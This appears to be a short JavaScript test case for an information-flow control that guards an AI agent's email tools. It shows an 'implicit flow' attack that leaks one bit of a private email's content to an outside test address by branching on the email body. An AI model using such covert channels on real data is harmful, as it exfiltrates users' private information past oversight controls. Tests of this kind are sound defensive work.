// attack: implicit flow through the NOT-taken branch: the variable keeps its literal value
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
let x = 'a';
if (!m.body.includes('zed')) {
  x = 'b';
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'bit=' + x, body: 'Attached.' });
